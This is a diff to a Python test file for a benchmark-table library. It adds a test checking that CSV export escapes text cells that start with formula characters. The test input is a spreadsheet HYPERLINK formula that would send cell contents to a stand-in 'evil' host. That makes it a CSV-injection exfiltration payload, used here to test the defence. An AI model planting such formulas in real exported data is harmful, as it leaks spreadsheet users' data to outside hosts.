@@ -25,7 +25,14 @@ from sefi.benchmark.table_files import (
     format_value,
 )
 from sefi.benchmark.table_metrics import METRICS, find_conditions
-from sefi.benchmark.tables import compute_all_differences, compute_differences, make_table, make_tables_by_kind
+from sefi.benchmark.tables import (
+    Table,
+    VariantRow,
+    compute_all_differences,
+    compute_differences,
+    make_table,
+    make_tables_by_kind,
+)
 from sefi.core.errors import ConfigError
 
 METRIC = {metric.name: metric for metric in METRICS}
@@ -366,6 +373,21 @@ def test_csv_has_a_line_for_every_variant_and_metric(synthetic):
     assert (float(line["mean"]), float(line["low"]), int(line["n"])) == (expected.mean, expected.low, 3)
     empty = next(each for each in lines if (each["variant"], each["figure"]) == ("photo", "diversity"))
     assert (empty["mean"], empty["n"], empty["control"]) == ("", "", "photo")
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\uff1d"])
+def test_no_text_of_the_csv_is_a_formula_and_every_number_is_one(begin):
+    label = f'{begin}HYPERLINK("http://evil/?"&A1,"ours")'
+    found = Table(
+        f"{begin}kind",
+        (VariantRow(label, "", f"{begin}photo"),),
+        METRICS[:1],
+        {},
+        {(label, METRICS[0].name): Interval(-0.5, -0.6, -0.4, 3)},
+    )
+    [line] = csv.DictReader(io.StringIO(format_csv(found)))
+    assert (line["kind"], line["variant"], line["control"]) == (f"'{begin}kind", f"'{label}", f"'{begin}photo")
+    assert (line["mean"], line["low"], line["high"], line["n"]) == ("-0.5", "-0.6", "-0.4", "3")
 
 
 def test_one_plain_loop_gives_the_same_means(synthetic):
